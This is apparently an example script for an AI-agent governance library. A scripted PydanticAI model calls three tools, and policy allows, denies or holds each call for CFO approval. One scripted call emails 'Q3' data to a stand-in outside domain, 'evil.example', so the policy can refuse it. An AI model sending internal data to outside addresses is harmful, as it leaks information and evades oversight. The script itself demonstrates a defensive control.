"""PydanticAI + agt, offline: an Agent whose tool calls go through agt's GovernanceCapability.

The model is PydanticAI's own ``FunctionModel``, scripted to ask for three tools in one turn: the weather
(allowed), an email to an outside domain (denied by policy) and a transfer of 500 (needs the CFO's
approval, given here by a signed vote from another thread while the call waits). It then prints what the
model was told about each call. No network, no API key.

    pip install 'agt[pydantic-ai]'
    python examples/pydantic_ai_agent.py

The policy (examples/offline_policy.yaml), the plain tools and the CFO's keys come from examples/_offline.py.
"""

from __future__ import annotations

import os

os.environ.setdefault("OTEL_SDK_DISABLED", "true")

from pydantic_ai import Agent  # noqa: E402
from pydantic_ai.messages import ModelRequest, ModelResponse, TextPart, ToolCallPart, ToolReturnPart  # noqa: E402
from pydantic_ai.models.function import FunctionModel  # noqa: E402

from _offline import (  # noqa: E402
    RAN, cfo_approves_when_asked, get_weather, offline_governor, send_email, transfer_funds)
from agt.adapters.pydantic_ai import GovernanceCapability  # noqa: E402

SEEN: list = []


def scripted_model(messages, info):  # noqa: ANN001 - FunctionModel's signature
    """Turn 1: call the three tools. Turn 2: say what happened. Keeps what it was sent."""
    SEEN.append(list(messages))
    if len(SEEN) == 1:
        return ModelResponse(parts=[ToolCallPart("get_weather", {"city": "Paris"}, tool_call_id="call-0"),
                                    ToolCallPart("send_email", {"to": "boss@evil.example", "body": "Q3"}, tool_call_id="call-1"),
                                    ToolCallPart("transfer_funds", {"amount": 500}, tool_call_id="call-2")])
    return ModelResponse(parts=[TextPart("Done; one call was refused by policy.")])


def main() -> None:
    with offline_governor("pydantic-ai") as env:  # examples/offline_policy.yaml, a signed audit log, the CFO's keys
        agent = Agent(FunctionModel(scripted_model), tools=[get_weather, send_email, transfer_funds], name="assistant",
                      capabilities=[GovernanceCapability(env.governor)])  # <- the agt line

        voter = cfo_approves_when_asked(env)
        result = agent.run_sync("Go")
        voter.join(timeout=30)
        print("model says:", result.output)

        print("what the model was told about each call:")
        last = SEEN[-1][-1]
        assert isinstance(last, ModelRequest)
        for part in last.parts:
            if isinstance(part, ToolReturnPart):
                print(f"  {part.tool_name} ({part.outcome}): {part.model_response_str()}")
        for tool in ("get_weather", "send_email", "transfer_funds"):
            print(f"{tool} ran: {tool in RAN}")


if __name__ == "__main__":
    main()
